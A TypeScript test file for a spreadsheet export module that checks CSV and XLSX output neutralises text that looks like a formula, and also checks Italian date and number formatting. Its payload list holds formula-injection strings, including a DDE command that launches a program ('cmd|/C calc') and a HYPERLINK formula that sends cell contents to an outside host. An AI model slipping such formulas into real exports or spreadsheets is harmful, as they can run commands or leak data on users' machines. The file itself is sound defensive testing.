import { describe, expect, it } from 'vitest'
import { readCsv, readXlsx } from '../../../test/files/read-sheet.ts'
import type { Cell, Sheet, SheetColumn } from './sheet.ts'
import { csv } from './sheet-csv.ts'
import { xlsx } from './sheet-xlsx.ts'

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
]
const PREFIXES = ['', ' ', '   ', '\0', '\0 ', '\u00a0', '\u200b', '\u202e', '\ufeff', '\u0001']
const PAYLOADS = [
  ...FORMULAS.flatMap((formula) => PREFIXES.map((prefix) => prefix + formula)),
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.test?"&A1,"apri")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '"=1+1"',
  ';=1+1',
]

const TESTO: SheetColumn[] = [{ titolo: 'Nome', tipo: 'testo' }]
const sheet = (colonne: readonly SheetColumn[], rows: Cell[][], totali?: Cell[]): Sheet => ({
  nome: 'Prova',
  colonne,
  righe: (async function* () {
    yield rows
  })(),
  ...(totali && { totali }),
})
const whole = async (file: AsyncIterable<Buffer>) => Buffer.concat(await Array.fromAsync(file))
const asCsv = async (it: Sheet) => (await whole(csv(it))).toString()

// A spreadsheet looks at the first letter that it does not skip.
const runs = (text: string) => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(text)

describe('T29 nessuna formula', () => {
  it(`T29 X4 CSV: ${PAYLOADS.length} testi che sembrano formule non lo sono più`, async () => {
    const [, ...rows] = readCsv(
      await asCsv(
        sheet(
          TESTO,
          PAYLOADS.map((text) => [text]),
        ),
      ),
    )
    expect(rows).toHaveLength(PAYLOADS.length)
    expect(rows.filter(([text = '']) => runs(text))).toEqual([])
    // Nothing that PostgreSQL or a program would stumble over is left.
    expect(rows.flat().filter((text) => text.includes('\0'))).toEqual([])
  })

  it('T29 X4 CSV: un testo con il separatore resta una cella sola, in ogni riga', async () => {
    const odd = ['a;=1+1', 'a"b', 'riga\r\n=1+1', "l'ora", 'a\tb']
    const rows = readCsv(
      await asCsv(
        sheet(
          TESTO,
          odd.map((text) => [text]),
        ),
      ),
    )
    expect(rows.map((row) => row.length)).toEqual(Array(6).fill(1))
  })

  it('T29 X4 XLSX: gli stessi testi sono celle di testo, mai formule', async () => {
    const rows = readXlsx(
      await whole(
        xlsx(
          sheet(
            TESTO,
            PAYLOADS.map((text) => [text]),
          ),
        ),
      ),
    )
    expect(rows).toHaveLength(PAYLOADS.length + 1)
    // Style 5 is text with the apostrophe of the program itself.
    const risky = rows.slice(1).filter(([cell]) => runs(String(cell?.value)))
    expect(risky.map(([cell]) => cell?.style)).toEqual(Array(risky.length).fill(5))
    expect(risky.length).toBeGreaterThan(100)
  })

  it('T29 X4 i numeri restano numeri, anche negativi', async () => {
    const colonne = [{ titolo: 'Importo', tipo: 'importo' }] as const
    expect(await asCsv(sheet(colonne, [[-123_456], [7], [0]]))).toBe(
      '\uFEFFImporto\r\n-1234,56\r\n0,07\r\n0,00\r\n',
    )
  })
})

const COLONNE: SheetColumn[] = [
  { titolo: 'Data', tipo: 'istante' },
  { titolo: 'Scadenza', tipo: 'giorno' },
  { titolo: 'Cliente', tipo: 'testo' },
  { titolo: 'Rate', tipo: 'numero' },
  { titolo: 'Importo', tipo: 'importo' },
]
const RIGA: Cell[] = ['2026-07-31T22:30:00Z', '2026-03-05', 'Niccolò & Figli <S.r.l.>', 3, 123_450]

describe('X4 un foglio italiano', () => {
  it('X4 CSV: BOM, punto e virgola, virgola decimale, gg/mm/aaaa nel giorno di Roma', async () => {
    expect(await asCsv(sheet(COLONNE, [RIGA], ['Totale', null, null, null, 123_450]))).toBe(
      [
        '\uFEFFData;Scadenza;Cliente;Rate;Importo',
        '01/08/2026 00:30;05/03/2026;Niccolò & Figli <S.r.l.>;3;1234,50',
        'Totale;;;;1234,50',
        '',
      ].join('\r\n'),
    )
  })

  it('X4 XLSX: date e importi sono numeri con il loro formato', async () => {
    const [head, row, foot] = readXlsx(
      await whole(xlsx(sheet(COLONNE, [RIGA], ['Totale', null, null, null, 123_450]))),
    )
    expect(head?.map(({ value }) => value)).toEqual(COLONNE.map(({ titolo }) => titolo))
    // 5 March 2026 and 1 August 2026, half past midnight in Rome, as days since 30 December 1899.
    expect(row).toEqual([
      { style: 4, value: 46_235 + 30 / 1440 },
      { style: 3, value: 46_086 },
      { style: 0, value: 'Niccolò & Figli <S.r.l.>' },
      { style: 0, value: 3 },
      { style: 2, value: 1234.5 },
    ])
    expect(foot?.[4]).toEqual({ style: 6, value: 1234.5 })
  })

  it('X4 XLSX: un testo che somiglia a un codice del formato resta sé stesso', async () => {
    const text = 'Lotto _x0041_ \u0007fine'
    const rows = readXlsx(await whole(xlsx(sheet(TESTO, [[text]]))))
    expect(rows[1]?.[0]?.value).toBe('Lotto _x0041_ fine')
  })

  it('X4 un elenco vuoto è un file con le sole intestazioni', async () => {
    expect(await asCsv(sheet(COLONNE, []))).toBe('\uFEFFData;Scadenza;Cliente;Rate;Importo\r\n')
    expect(readXlsx(await whole(xlsx(sheet(COLONNE, []))))).toHaveLength(1)
  })
})
